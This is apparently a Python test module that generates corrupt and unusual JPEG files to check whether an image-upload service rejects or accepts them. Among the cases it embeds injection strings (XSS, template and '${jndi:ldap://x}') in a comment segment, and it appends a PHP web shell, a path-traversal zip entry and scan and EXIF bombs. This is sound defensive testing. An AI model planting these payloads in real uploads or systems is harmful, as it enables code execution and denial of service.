"""JPEG files: broken in every part, and unusual but whole."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator

import numpy as np
from PIL import Image, ImageCms

from tests.hostile.case import Case, Pixels, encode, exif, exif_bomb, noise, picture, reference, upright

SOI, EOI = b"\xff\xd8", b"\xff\xd9"
SOF0, SOF2, DHT, DQT, SOS, APP1, APP2, APP14, COM = 0xC0, 0xC2, 0xC4, 0xDB, 0xDA, 0xE1, 0xE2, 0xEE, 0xFE


def segment(marker: int, payload: bytes) -> bytes:
    """A marker segment with its length."""
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def split(content: bytes) -> list[bytes]:
    """A JPEG in pieces, one for each marker; a scan's coded data belongs to its SOS piece."""
    pieces, start = [content[:2]], 2
    while start < len(content):
        end = start + 2
        if content[start + 1] != EOI[1]:
            end += int.from_bytes(content[start + 2 : start + 4], "big")
        if content[start + 1] == SOS:
            while content[end] != 0xFF or content[end + 1] == 0 or 0xD0 <= content[end + 1] <= 0xD7:
                end += 1
        pieces.append(content[start:end])
        start = end
    return pieces


def change(content: bytes, marker: int, edit: Callable[[bytes], bytes]) -> bytes:
    """Edit every piece with this marker."""
    return b"".join(edit(piece) if piece[1] == marker else piece for piece in split(content))


def insert(content: bytes, *segments: bytes) -> bytes:
    """Put segments right behind the start of the image."""
    return content[:2] + b"".join(segments) + content[2:]


def with_size(content: bytes, width: int, height: int) -> bytes:
    """The same file with another width and height in its header."""

    def edit(piece: bytes) -> bytes:
        return piece[:5] + struct.pack(">HH", height, width) + piece[9:]

    return change(change(content, SOF0, edit), SOF2, edit)


def _overwrite(piece: bytes, start: float, data: bytes) -> bytes:
    """Overwrite a scan's coded data from a fraction of its length on."""
    header = 2 + int.from_bytes(piece[2:4], "big")
    at = header + int((len(piece) - header) * start)
    return piece[:at] + data + piece[at + len(data) :]


def _cut(piece: bytes, start: float, end: float) -> bytes:
    """Take a stretch of a scan's coded data out, given as fractions of its length."""
    header = 2 + int.from_bytes(piece[2:4], "big")
    size = len(piece) - header
    return piece[: header + int(size * start)] + piece[header + int(size * end) :]


BASELINE = encode(picture(96, 112), "JPEG", quality=85, subsampling="4:2:0")
PROGRESSIVE = encode(picture(96, 112), "JPEG", quality=85, progressive=True)
SEEDS = (0, 1, 2, 4, 5, 7, 8, 9)
OPTIMISED = encode(picture(96, 112), "JPEG", quality=85, optimize=True)
RESTARTS = encode(picture(96, 112), "JPEG", quality=85, restart_marker_blocks=4)


def cases() -> Iterator[Case]:
    """Every JPEG case."""
    yield from _huffman_tables()
    yield from _corrupt_data()
    yield from _restart_markers()
    yield from _headers()
    yield from _scan_bombs()
    yield from _coding_processes()
    yield from _accepted_encodings()
    yield from _accepted_colours()
    yield from _orientations()
    yield from _metadata()
    yield from _polyglots()


def _invalid(kind: str, name: str, body: bytes) -> Case:
    return Case(kind, f"{kind}-{name}".replace(" ", "-"), 422, body)


def _accepted(kind: str, name: str, body: bytes, pixels: Pixels | None = None) -> Case:
    return Case(
        kind, f"{kind}-{name}".replace(" ", "-"), 200, body, pixels=reference(body) if pixels is None else pixels
    )


def _huffman_tables() -> Iterator[Case]:
    def edit_table(edit: Callable[[bytes, bytes], bytes]) -> Callable[[bytes], bytes]:
        return lambda piece: piece[:5] + edit(piece[5:21], piece[21:])

    def shuffled(seed: int) -> Callable[[bytes, bytes], bytes]:
        return lambda counts, symbols: (
            counts + np.random.default_rng(seed).permutation(np.frombuffer(symbols, np.uint8)).tobytes()
        )

    edits: dict[str, Callable[[bytes, bytes], bytes]] = {
        "reversed symbols": lambda counts, symbols: counts + symbols[::-1],
        "rotated symbols": lambda counts, symbols: counts + symbols[1:] + symbols[:1],
        "shuffled symbols 1": shuffled(1),
        "shuffled symbols 2": shuffled(2),
        "bogus counts": lambda counts, symbols: b"\xff" * 16 + symbols,
        "overfull code": lambda counts, symbols: b"\x03" + counts[1:] + symbols,
        "no codes": lambda counts, symbols: bytes(16) + symbols,
        "reversed counts": lambda counts, symbols: counts[::-1] + symbols,
        "large symbols": lambda counts, symbols: counts + b"\xff" * len(symbols),
    }
    for name, edit in edits.items():
        yield _invalid("huffman table", name, change(BASELINE, DHT, edit_table(edit)))
        yield _invalid("huffman table", f"{name} progressive", change(PROGRESSIVE, DHT, edit_table(edit)))
    yield _invalid(
        "huffman table",
        "luma and chroma swapped",
        change(OPTIMISED, DHT, lambda piece: piece[:4] + bytes([piece[4] ^ 1]) + piece[5:]),
    )
    yield _invalid(
        "huffman table",
        "class swapped",
        change(OPTIMISED, DHT, lambda piece: piece[:4] + bytes([piece[4] ^ 0x10]) + piece[5:]),
    )
    # Without tables a decoder takes the standard ones, which fit only the files that were made with them.
    for name, content in (("optimised", OPTIMISED), ("progressive", PROGRESSIVE)):
        yield _invalid("huffman table", f"missing {name}", change(content, DHT, lambda _: b""))
    yield _invalid("huffman table", "cut short", change(BASELINE, DHT, lambda piece: segment(DHT, piece[4:14])))


def _corrupt_data() -> Iterator[Case]:
    # Of random bytes some decode to other pixels without a word. With these seeds libjpeg complains.
    for seed in SEEDS:
        random = np.random.default_rng(seed)
        start, data = random.uniform(0.1, 0.8), random.bytes(48)
        for name, content in (("baseline", BASELINE), ("progressive", PROGRESSIVE), ("optimised", OPTIMISED)):
            edited = change(content, SOS, lambda piece, at=start, data=data: _overwrite(piece, at, data))  # type: ignore[misc]
            yield _invalid("corrupt jpeg", f"random {name} {seed}", edited)
    edits: dict[str, Callable[[bytes], bytes]] = {
        "ones": lambda piece: _overwrite(piece, 0.5, b"\xff\x00" * 100),
        "fill bytes": lambda piece: _overwrite(piece, 0.5, b"\xff" * 200),
        "a stretch cut out": lambda piece: _cut(piece, 0.4, 0.6),
        "the start cut out": lambda piece: _cut(piece, 0.0, 0.1),
        "cut and ended": lambda piece: _cut(piece, 0.5, 1.0),
        "all cut": lambda piece: _cut(piece, 0.0, 1.0),
        "an end in the middle": lambda piece: _overwrite(piece, 0.5, EOI),
        "a start in the middle": lambda piece: _overwrite(piece, 0.5, SOI),
        "another frame in the middle": lambda piece: _overwrite(piece, 0.5, split(BASELINE)[4]),
        "a restart nobody announced": lambda piece: _overwrite(piece, 0.5, b"\xff\xd0"),
    }
    for name, edit in edits.items():
        yield _invalid("corrupt jpeg", name, change(BASELINE, SOS, edit))
        yield _invalid("corrupt jpeg", f"{name} progressive", change(PROGRESSIVE, SOS, edit))
    zeros = change(PROGRESSIVE, SOS, lambda piece: _overwrite(piece, 0.5, bytes(200)))
    yield _invalid("corrupt jpeg", "zeros progressive", zeros)
    pieces = split(PROGRESSIVE)
    scans = [index for index, piece in enumerate(pieces) if piece[1] == SOS]
    reversed_scans = [pieces[scans[-1 - scans.index(i)]] if i in scans else piece for i, piece in enumerate(pieces)]
    yield _invalid("corrupt jpeg", "scans reversed", b"".join(reversed_scans))
    without_first = [piece for index, piece in enumerate(pieces) if index != scans[0]]
    yield _invalid("corrupt jpeg", "first scan missing", b"".join(without_first))
    tall = with_size(BASELINE, 112, 960)
    yield _invalid("corrupt jpeg", "tenfold height", tall)
    yield _invalid("corrupt jpeg", "one row of 65535", with_size(encode(picture(8, 64), "JPEG"), 65_500, 1))
    yield _invalid("corrupt jpeg", "one column of 65535", with_size(encode(picture(64, 8), "JPEG"), 1, 65_500))


def _restart_markers() -> Iterator[Case]:
    def markers_replaced(new: Callable[[int], bytes]) -> bytes:
        def edit(piece: bytes) -> bytes:
            for number in range(8):
                piece = piece.replace(bytes((0xFF, 0xD0 + number)), b"\xff\x01" + bytes([number]))
            for number in range(8):
                piece = piece.replace(b"\xff\x01" + bytes([number]), new(number))
            return piece

        return change(RESTARTS, SOS, edit)

    assert markers_replaced(lambda number: bytes((0xFF, 0xD0 + number))) == RESTARTS
    yield _invalid("restart markers", "missing", markers_replaced(lambda number: b""))
    yield _invalid("restart markers", "all the same", markers_replaced(lambda number: b"\xff\xd0"))
    yield _invalid("restart markers", "backwards", markers_replaced(lambda number: bytes((0xFF, 0xD7 - number))))
    yield _invalid("restart markers", "doubled", markers_replaced(lambda number: bytes((0xFF, 0xD0 + number)) * 2))
    scan = next(piece for piece in split(RESTARTS) if piece[1] == SOS)
    first, second = (scan.index(bytes((0xFF, number))) for number in (0xD0, 0xD1))
    yield _invalid(
        "restart markers", "an interval missing", change(RESTARTS, SOS, lambda _: scan[:first] + scan[second:])
    )


def _headers() -> Iterator[Case]:
    def frame(payload: bytes, marker: int = SOF0) -> bytes:
        return change(BASELINE, SOF0, lambda _: segment(marker, payload))

    size = struct.pack(">HH", 96, 112)
    layers = b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    assert frame(b"\x08" + size + b"\x03" + layers) == BASELINE
    frames = {
        "no components": b"\x08" + size + b"\x00",
        "two components": b"\x08" + size + b"\x02" + layers[:6],
        "five components": b"\x08" + size + b"\x05" + layers + b"\x04\x11\x01\x05\x11\x01",
        "255 components": b"\x08" + size + b"\xff" + layers,
        "12 bit": b"\x0c" + size + b"\x03" + layers,
        "0 bit": b"\x00" + size + b"\x03" + layers,
        "sampling 0": b"\x08" + size + b"\x03\x01\x00\x00\x02\x11\x01\x03\x11\x01",
        "sampling 15": b"\x08" + size + b"\x03\x01\xff\x00\x02\x11\x01\x03\x11\x01",
        "same component twice": b"\x08" + size + b"\x03\x01\x22\x00\x01\x11\x01\x01\x11\x01",
        "quantisation table 9": b"\x08" + size + b"\x03\x01\x22\x09\x02\x11\x01\x03\x11\x01",
        "frame cut short": b"\x08" + size + b"\x03" + layers[:4],
        "empty frame": b"",
        "65535 x 1": b"\x08" + struct.pack(">HH", 1, 65_535) + b"\x03" + layers,
    }
    for name, payload in frames.items():
        yield _invalid("jpeg header", name, frame(payload))
    yield _invalid("jpeg header", "quantisation tables missing", change(BASELINE, DQT, lambda _: b""))
    yield _invalid("jpeg header", "quantisation cut short", change(BASELINE, DQT, lambda p: segment(DQT, p[4:40])))
    yield _invalid("jpeg header", "frame missing", change(BASELINE, SOF0, lambda _: b""))
    yield _invalid("jpeg header", "frame twice", change(BASELINE, SOF0, lambda piece: piece * 2))
    yield _invalid("jpeg header", "start twice", SOI + BASELINE)
    yield _invalid("jpeg header", "scan missing", change(BASELINE, SOS, lambda _: b""))
    yield _invalid("jpeg header", "scan of unknown component", change(BASELINE, SOS, lambda p: p[:5] + b"\x09" + p[6:]))
    yield _invalid(
        "jpeg header", "scan of no component", change(BASELINE, SOS, lambda p: segment(SOS, b"\x00\x00\x3f\x00"))
    )
    yield _invalid("jpeg header", "end at once", SOI + EOI)
    yield _invalid("jpeg header", "end before the scan", b"".join(split(BASELINE)[:-2]) + EOI)
    yield _invalid("jpeg header", "signature only", b"\xff\xd8\xff")
    yield _invalid("jpeg header", "segment past the end", insert(BASELINE, b"\xff\xe1\xff\xff")[:5000])
    yield _invalid("jpeg header", "a JPEG-LS stream", SOI + segment(0xF7, b"\x08" + size + b"\x01\x01\x11\x00") + EOI)
    # Byte-wise readers written in Python crawl through these.
    yield _invalid("jpeg header", "a megabyte of fill bytes", SOI + b"\xff" * 1_000_000)
    yield _invalid("jpeg header", "a megabyte of junk", SOI + segment(COM, b"") + bytes(1_000_000))
    yield _invalid("jpeg header", "nothing but 100000 comments", SOI + segment(COM, b"") * 100_000)
    # Each is joined to what came before: the work grows with the square of their number.
    block = segment(APP1, b"Exif\0\0" + exif(1)) + segment(APP1, b"Exif\0\0" + bytes(10)) * 50_000
    yield _invalid("jpeg header", "50000 exif segments", insert(BASELINE, block))


def _scan_bombs() -> Iterator[Case]:
    def repeated(size: int, scan: int, count: int) -> bytes:
        pieces = split(encode(np.full((size, size, 3), 90, np.uint8), "JPEG", progressive=True))
        scans = [index for index, piece in enumerate(pieces) if piece[1] == SOS]
        pieces[scans[scan]] *= count
        return b"".join(pieces)

    # The last scan refines a bit it has refined before: no encoder writes that, and each costs a walk over the image.
    yield _invalid("scan bomb", "100000 scans", repeated(8, -1, 100_000))
    yield _invalid("scan bomb", "1000 scans", repeated(64, -1, 1000))
    yield _invalid("scan bomb", "1000 first scans", repeated(64, 0, 1000))
    yield _invalid("scan bomb", "1000 scans of a megapixel", repeated(1024, -1, 1000))


def _coding_processes() -> Iterator[Case]:
    """Frames that announce a process we do not take, before coded data of another one."""
    processes = {
        "lossless": 0xC3, "hierarchical": 0xC5, "hierarchical progressive": 0xC6, "hierarchical lossless": 0xC7,
        "reserved": 0xC8, "arithmetic": 0xC9, "arithmetic progressive": 0xCA, "arithmetic lossless": 0xCB,
        "arithmetic hierarchical": 0xCD,
    }  # fmt: skip
    for name, marker in processes.items():
        base = PROGRESSIVE if "progressive" in name else BASELINE
        was = SOF2 if "progressive" in name else SOF0
        edited = change(base, was, lambda piece, marker=marker: bytes((0xFF, marker)) + piece[2:])  # type: ignore[misc]
        yield _invalid("jpeg process", name, edited)
    as_progressive = change(BASELINE, SOF0, lambda piece: bytes((0xFF, SOF2)) + piece[2:])
    yield _invalid("jpeg process", "baseline data called progressive", as_progressive)
    as_baseline = change(PROGRESSIVE, SOF2, lambda piece: bytes((0xFF, SOF0)) + piece[2:])
    yield _invalid("jpeg process", "progressive data called baseline", as_baseline)


def _accepted_encodings() -> Iterator[Case]:
    source = picture(75, 101)
    for sampling in ("4:4:4", "4:2:2", "4:2:0"):
        yield _accepted("sampling", sampling.replace(":", ""), encode(source, "JPEG", subsampling=sampling))

    # Blocks of a scan come in the same order whether two lie side by side or one above the other: a file with other
    # sampling factors and sides is whole again, only its picture is scrambled.
    def resampled(content: bytes, factors: int, width: int, height: int) -> bytes:
        return with_size(change(content, SOF0, lambda p: p[:11] + bytes([factors]) + p[12:]), width, height)

    wide, square = (encode(picture(64, 128), "JPEG", subsampling=name) for name in ("4:2:2", "4:2:0"))
    yield _accepted("sampling", "440", resampled(wide, 0x12, 64, 128))
    yield _accepted("sampling", "411", resampled(square, 0x41, 256, 32))
    yield _accepted("sampling", "odd 1x4", resampled(square, 0x14, 64, 128))
    for quality in (1, 50, 100):
        yield _accepted("quality", str(quality), encode(source, "JPEG", quality=quality))
    yield _accepted("jpeg", "progressive", encode(source, "JPEG", progressive=True))
    yield _accepted("jpeg", "progressive grey", encode(source[..., 0], "JPEG", progressive=True))
    yield _accepted("jpeg", "optimised", encode(source, "JPEG", optimize=True))
    yield _accepted("jpeg", "restart blocks", encode(source, "JPEG", restart_marker_blocks=3))
    yield _accepted("jpeg", "restart rows", encode(source, "JPEG", restart_marker_rows=1))
    yield _accepted("jpeg", "restart progressive", encode(source, "JPEG", restart_marker_rows=1, progressive=True))
    for height, width in ((1, 1), (1, 100), (100, 1), (7, 9), (16, 16), (17, 17), (60_000, 1), (1, 60_000)):
        body = encode(picture(height, width), "JPEG")
        yield _accepted("size", f"jpeg {width}x{height}", body)


def _accepted_colours() -> Iterator[Case]:
    source = picture(64, 80)
    yield _accepted("jpeg colour", "grey", encode(source[..., 0], "JPEG"))
    yield _accepted("jpeg colour", "rgb components", encode(source, "JPEG", keep_rgb=True))
    cmyk = encode(Image.fromarray(np.dstack([source, noise(64, 80, seed=5)]), "CMYK"), "JPEG")
    yield _accepted("jpeg colour", "cmyk", cmyk)
    yield _accepted("jpeg colour", "ycck", change(cmyk, APP14, lambda piece: piece[:-1] + b"\x02"))
    yield _accepted("jpeg colour", "cmyk without a marker", change(cmyk, APP14, lambda _: b""))
    yield _accepted("jpeg colour", "cmyk turned", insert(cmyk, segment(APP1, b"Exif\0\0" + exif(6))))
    yield _accepted("jpeg colour", "cmyk progressive", encode(Image.open(io.BytesIO(cmyk)), "JPEG", progressive=True))


def _orientations() -> Iterator[Case]:
    plain = encode(picture(48, 72), "JPEG")
    stored = reference(plain)
    for orientation in range(1, 9):
        body = insert(plain, segment(APP1, b"Exif\0\0" + exif(orientation, big_endian=orientation % 2 == 0)))
        yield _accepted("orientation", f"jpeg {orientation}", body, upright(stored, orientation))
    for orientation in (0, 9, 65_535):
        body = insert(plain, segment(APP1, b"Exif\0\0" + exif(orientation)))
        yield _accepted("orientation", f"jpeg senseless {orientation}", body, stored)
    good = exif(6)
    broken = {
        "noise": noise(200).tobytes(),
        "empty": b"",
        "cut short": good[:12],
        "no byte order": b"XX" + good[2:],
        "directory past the end": good[:4] + b"\xff\xff\xff\x7f" + good[8:],
        "65535 entries": good[:8] + b"\xff\xff",
        "5000 tags of one place": exif_bomb(5000, 60_000),
        "directory pointing at itself": good[:8] + b"\x00\x00" + b"\x08\x00\x00\x00",
    }
    for name, block in broken.items():
        yield _accepted("broken exif", f"jpeg {name}", insert(plain, segment(APP1, b"Exif\0\0" + block)), stored)


def _metadata() -> Iterator[Case]:
    source = picture(56, 72)
    plain = encode(source, "JPEG")
    pixels = reference(plain)
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    profile[24:36] = struct.pack(">6H", 2026, 1, 1, 0, 0, 0)  # else the day of its making
    yield _accepted("icc", "jpeg srgb", encode(source, "JPEG", icc_profile=bytes(profile)), pixels)
    yield _accepted("icc", "jpeg noise", encode(source, "JPEG", icc_profile=noise(3000).tobytes()), pixels)
    yield _accepted("icc", "jpeg large", encode(source, "JPEG", icc_profile=noise(300_000).tobytes()), pixels)
    part = segment(APP2, b"ICC_PROFILE\0\x03\x09" + noise(100).tobytes())
    yield _accepted("icc", "jpeg one part of nine", insert(plain, part), pixels)
    yield _accepted("icc", "jpeg without numbers", insert(plain, segment(APP2, b"ICC_PROFILE\0\x01\x01")), pixels)
    comment = segment(COM, noise(65_533).tobytes())
    yield _accepted("metadata", "comment of 64 KB", insert(plain, comment), pixels)
    yield _accepted("metadata", "ten comments of 64 KB", insert(plain, comment * 10), pixels)
    yield _accepted("metadata", "1000 empty comments", insert(plain, segment(COM, b"") * 1000), pixels)
    markers = b"".join(segment(0xE0 + number, noise(20, seed=number).tobytes()) for number in range(3, 14))
    yield _accepted("metadata", "unknown application segments", insert(plain, markers), pixels)
    html = segment(COM, b"<script>alert(1)</script>\0%s%n{{7*7}}${jndi:ldap://x}")
    yield _accepted("metadata", "comment with code", insert(plain, html), pixels)
    thumbnail = encode(picture(20, 30, seed=9), "JPEG")
    # Directory 0 with an orientation, directory 1 with the thumbnail's place and length.
    block = exif(1)[:-4] + struct.pack("<I", 26)
    block += struct.pack("<HHHIIHHIII", 2, 0x0201, 4, 1, 56, 0x0202, 4, 1, len(thumbnail), 0) + thumbnail
    yield _accepted("jpeg in jpeg", "thumbnail", insert(plain, segment(APP1, b"Exif\0\0" + block)), pixels)
    yield _accepted("jpeg in jpeg", "comment", insert(plain, segment(COM, thumbnail)), pixels)
    yield _accepted("jpeg in jpeg", "behind", plain + thumbnail, pixels)
    block = segment(APP2, b"MPF\0" + exif_bomb(5000, 60_000))
    yield _accepted("jpeg in jpeg", "MPF of 5000 tags of one place", insert(plain, block), pixels)
    second = Image.fromarray(picture(56, 72, seed=3))
    yield _accepted("jpeg in jpeg", "MPO", encode(source, "MPO", save_all=True, append_images=[second]), pixels)


def _polyglots() -> Iterator[Case]:
    plain = encode(picture(56, 72), "JPEG")
    pixels = reference(plain)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("../../evil.sh"), "#!/bin/sh\n")
    page = b"<!doctype html><html><script>alert(document.domain)</script></html>"
    behind = {
        "zip": buffer.getvalue(), "html": page, "php": b"<?php system($_GET['c']); ?>", "zeros": bytes(5000),
        "noise": noise(5000).tobytes(), "end markers": EOI * 1000, "a boundary": b"\r\n--xyz--\r\n" * 100,
    }  # fmt: skip
    for name, tail in behind.items():
        yield _accepted("polyglot", f"jpeg with {name} behind", plain + tail, pixels)
    yield _accepted("polyglot", "jpeg with html inside", insert(plain, segment(COM, page)), pixels)
